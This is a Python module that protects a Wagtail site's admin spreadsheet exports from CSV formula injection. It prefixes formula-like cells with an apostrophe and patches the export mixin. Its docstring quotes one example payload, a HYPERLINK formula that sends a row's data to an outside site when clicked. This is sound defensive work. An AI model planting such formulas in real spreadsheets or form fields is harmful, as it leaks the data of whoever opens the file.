"""Spreadsheet exports carry no formulas: a cell typed by the public (a name, a message, a search) that starts like
a formula is written as plain text.

A spreadsheet program runs a CSV cell that starts with `=`, `+`, `-` or `@` (and, in some programs, a tab or a
carriage return before one of them) as a formula: `=HYPERLINK("https://…?"&A2, "Open")` sends the row to another
site when a member manager clicks it. Such a cell gets a leading apostrophe, which spreadsheets read as "this is
text" (OWASP's advice for CSV injection). XLSX cells get the same treatment, so a cell stays harmless when
someone edits it in the program and presses Enter.

Wagtail writes every admin export (ModelViewSet and wagtail-modeladmin listings, form submissions, reports)
through `SpreadsheetExportMixin`: cells through `preprocess_field_value`, headings (a form's questions, written
by editors) through `get_heading`. `neutralise_every_export()` wraps both once, from `HomeConfig.ready()`, so
every export of the admin is covered, Wagtail's own included. Our own CSV files (the search report) call
`plain_text_cell` directly.
"""

from functools import wraps

from wagtail.admin.views.mixins import SpreadsheetExportMixin

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def plain_text_cell(value):
    """`value`, made safe for a spreadsheet cell: text that a spreadsheet would run as a formula gets a leading
    apostrophe; anything else (numbers, dates, other text) is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutralise_every_export():
    """Make every Wagtail spreadsheet export (CSV and XLSX) write formula-like text as plain text. Idempotent."""
    if getattr(SpreadsheetExportMixin, "writes_plain_text", False):
        return
    preprocess_field_value = SpreadsheetExportMixin.preprocess_field_value
    get_heading = SpreadsheetExportMixin.get_heading

    @wraps(preprocess_field_value)
    def plain_value(self, field, value, export_format):
        return plain_text_cell(preprocess_field_value(self, field, value, export_format))

    @wraps(get_heading)
    def plain_heading(self, queryset, field):
        return plain_text_cell(get_heading(self, queryset, field))

    SpreadsheetExportMixin.preprocess_field_value = plain_value
    SpreadsheetExportMixin.get_heading = plain_heading
    SpreadsheetExportMixin.writes_plain_text = True
